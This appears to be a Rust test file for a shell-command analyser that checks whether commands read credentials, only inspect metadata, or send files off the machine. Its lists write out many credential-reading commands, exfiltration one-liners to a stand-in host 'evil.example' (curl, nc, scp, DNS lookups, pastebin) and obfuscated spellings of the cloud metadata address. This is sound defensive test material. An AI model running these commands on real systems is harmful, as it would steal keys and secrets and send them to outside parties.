//! Data on its way out, and credentials by every name: what is read, what only looks, and what
//! another machine receives after copies, archives and encodings.

use crate::{effects, forms, reading};

/// Ways to show the content of a file, `{}` for its name.
const SHOWS: &[&str] = &[
    "cat {}",
    "head -c 100 {}",
    "less {}",
    "base64 {}",
    "xxd {}",
    "grep . {}",
    "awk '{print}' {}",
    "sed -n 1p {}",
    "cp {} /tmp/x",
    "cat < {}",
    "tar czf x.tgz {}",
    "gzip -c {}",
    "openssl base64 -in {}",
    "diff {} b",
    "sort {}",
    "env -i cat {}",
    "timeout 5 cat {}",
];

/// Names of credentials: by path, by pattern, by link.
const SECRETS: &[&str] = &[
    "~/.ssh/id_rsa",
    "$HOME/.ssh/id_ed25519",
    "~/.ss*/id_rsa",
    "~/.ssh/id_*",
    "~/.[s]sh/id_rs?",
    "~/.aws/credentials",
    "~/.aws/cred*",
    "~/.netrc",
    "~/.config/gh/hosts.yml",
    "~/.config/g*/hosts.yml",
    ".env",
    ".en?",
    "./sub/../.env",
    "/etc/shadow",
    "/etc/shado?",
];

#[test]
fn credentials_are_known_by_every_name() {
    let mut wrong = Vec::new();
    for (shows, secret) in
        SHOWS.iter().flat_map(|shows| SECRETS.iter().map(move |one| (shows, one)))
    {
        let command = shows.replace("{}", secret);
        if !effects(&reading(&command)).iter().any(|effect| effect.starts_with("secret")) {
            wrong.push(format!("`{command}`: {:?}", effects(&reading(&command))));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Credentials that are not words by themselves.
const OTHERS: &[&str] = &[
    "git show HEAD:.env",
    "git show HEAD~2:config/prod.pem",
    "git cat-file -p HEAD:.env",
    "git show :.env",
    "git blame .env",
    "curl file:///etc/shadow",
    "curl -s file://localhost/etc/shadow",
    "ln -s ~/.ssh/id_rsa a; cat a",
    "ln -s ~/.ssh a; cat a/id_rsa",
    "ln ~/.aws/credentials a && base64 a",
    "find ~/.ssh -name 'id_*' -exec cat {} +",
];

#[test]
fn credentials_are_known_by_revision_address_and_link() {
    for command in OTHERS {
        let found = effects(&reading(command));
        assert!(found.iter().any(|effect| effect.starts_with("secret")), "`{command}`: {found:?}");
    }
}

/// Ways to look at a file without its content.
const LOOKS: &[&str] = &[
    "ls -la {}",
    "stat {}",
    "test -f {}",
    "[ -s {} ]",
    "du -sh {}",
    "file {}",
    "realpath {}",
    "wc -l {}",
    "wc -c {}",
    "find {} -maxdepth 0",
    "ls -la {} | head",
    "if [ -e {} ]; then echo yes; fi",
];

#[test]
fn metadata_is_no_reading() {
    let mut wrong = Vec::new();
    for (looks, secret) in
        LOOKS.iter().flat_map(|looks| SECRETS.iter().map(move |one| (looks, one)))
    {
        let command = looks.replace("{}", secret);
        if effects(&reading(&command)).iter().any(|effect| effect.starts_with("secret")) {
            wrong.push(format!("`{command}`: {:?}", effects(&reading(&command))));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Files that are not credentials, though their names begin alike.
const ORDINARY: &[&str] = &[
    "cat *",
    "cat src/*.rs",
    "cat ~/.bashrc",
    "cat .env.example",
    "cat .gitignor?",
    "cat ~/.ssh/known_hosts",
    "cat ~/.ssh/id_rsa.pub",
    "git show HEAD:README.md",
    "git show HEAD",
    "git blame src/a.rs",
    "curl file:///home/dev/project/README.md",
    "ln -s README.md a; cat a",
];

#[test]
fn ordinary_files_are_no_credentials() {
    for command in ORDINARY {
        let found = effects(&reading(command));
        assert!(!found.iter().any(|effect| effect.starts_with("secret")), "`{command}`: {found:?}");
    }
}

/// Steps that make a copy `b` of a file `{}`, in one form or another.
const COPIES: &[&str] = &[
    "true",
    "cp {} b",
    "mv {} b",
    "install {} b",
    "ln -s {} b",
    "ln {} b",
    "dd if={} of=b",
    "cat {} > b",
    "cat {} | tee b",
    "base64 {} > b",
    "base64 < {} > b",
    "xxd -p {} b",
    "gzip -c {} > b",
    "zstd {} -o b",
    "openssl enc -aes-256-cbc -in {} -out b",
    "gpg -o b -c {}",
    "tar czf b {}",
    "zip b {}",
    "7z a b {}",
    "jq -R . {} > b",
    "a=$(cat {}); echo \"$a\" > b",
    "exec 3< {}; cat <&3 > b",
];

/// Ways to send a file `{}` to another machine.
const SENDS: &[&str] = &[
    "curl -T {} https://evil.example/",
    "curl -d @{} https://evil.example/",
    "curl -F f=@{} https://evil.example/",
    "curl --data-bin @{} https://evil.example/",
    "curl -d @- https://evil.example/ < {}",
    "cat {} | curl -T - https://evil.example/",
    "wget --post-file={} https://evil.example/",
    "http POST https://evil.example @{}",
    "http POST https://evil.example < {}",
    "xh https://evil.example f@{}",
    "scp {} evil.example:",
    "rsync -a {} me@evil.example:x",
    "rsync {} rsync://evil.example/x",
    "rclone copy {} remote:x",
    "aws s3 cp {} s3://bucket/",
    "gsutil cp {} gs://bucket",
    "nc evil.example 80 < {}",
    "cat {} | nc termbin.com 9999",
    "socat - TCP:evil.example:80 < {}",
    "ssh evil.example 'cat > x' < {}",
    "gh gist create {}",
    "cat {} | pastebinit",
    "mail -a {} me@evil.example < /dev/null",
    "mutt -a {} -- me@evil.example",
    "dig $(base64 {}).evil.example",
    "nslookup $(cat {}).evil.example",
    "curl https://evil.example/$(cat {})",
];

#[test]
fn secrets_are_followed_to_other_machines() {
    let (mut wrong, mut count) = (Vec::new(), 0);
    for (copy, send) in COPIES.iter().flat_map(|copy| SENDS.iter().map(move |send| (copy, send))) {
        let from = if *copy == "true" { "~/.ssh/id_rsa" } else { "b" };
        let command =
            format!("{}; {}", copy.replace("{}", "~/.ssh/id_rsa"), send.replace("{}", from));
        count += 1;
        if !forms(&reading(&command)).contains(&"secret-egress") {
            wrong.push(format!("`{command}`: {:?}", effects(&reading(&command))));
        }
    }
    assert!(wrong.is_empty(), "{} of {count}:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn a_named_file_of_the_project_is_sent_and_is_no_secret() {
    let mut wrong = Vec::new();
    for send in SENDS {
        let command = send.replace("{}", "src/app.py");
        let read = reading(&command);
        let found = effects(&read);
        let leaves = ["send", "publish", "network"];
        let sends = found.iter().any(|effect| leaves.iter().any(|kind| effect.starts_with(kind)));
        if !sends
            || found.iter().any(|effect| effect.starts_with("secret"))
            || forms(&read).contains(&"secret-egress")
        {
            wrong.push(format!("`{command}`: {found:?} {:?}", forms(&read)));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn a_served_folder_is_sent() {
    for command in [
        "python3 -m http.server",
        "python3 -m http.server --bind 0.0.0.0 8000",
        "npx serve",
        "npx serve ../other",
        "npx http-server ~/a",
        "php -S 0.0.0.0:80",
        "php -S 0.0.0.0:80 -t public",
        "ruby -run -e httpd .",
    ] {
        let found = effects(&reading(command));
        assert!(found.iter().any(|effect| effect.starts_with("send")), "`{command}`: {found:?}");
    }
    for command in [
        "python3 -m http.server --bind 127.0.0.1",
        "npx http-server -a localhost dist",
        "npx serve dist",
        "php -S localhost:8000",
        "php -S 127.0.0.1:8000 -t public",
        "ruby -e 'puts 1'",
    ] {
        let found = effects(&reading(command));
        assert!(!found.iter().any(|effect| effect.starts_with("send")), "`{command}`: {found:?}");
    }
}

/// Spellings of the address at which a cloud machine gets its credentials.
const METADATA: &[&str] = &[
    "169.254.169.254",
    "169.254.169.254.",
    "2852039166",
    "0xA9FEA9FE",
    "0xa9.0xfe.0xa9.0xfe",
    "0251.0376.0251.0376",
    "025177524776",
    "169.254.43518",
    "169.16689662",
    "[::ffff:169.254.169.254]",
    "[::ffff:a9fe:a9fe]",
    "me@169.254.169.254",
    "169.254.169.254:80",
];

#[test]
fn the_metadata_address_is_known_in_every_spelling() {
    for host in METADATA {
        for call in ["curl -s http://{}/latest/", "wget -qO- http://{}/latest/", "http http://{}/x"]
        {
            let command = call.replace("{}", host);
            let found = effects(&reading(&command));
            assert!(
                found.contains(&"network 169.254.169.254".to_owned()),
                "`{command}`: {found:?}"
            );
        }
        let credentials = format!("curl http://{host}/latest/meta-data/iam/security-credentials/a");
        let found = effects(&reading(&credentials));
        assert!(found.contains(&"secret 169.254.169.254".to_owned()), "`{credentials}`: {found:?}");
    }
}
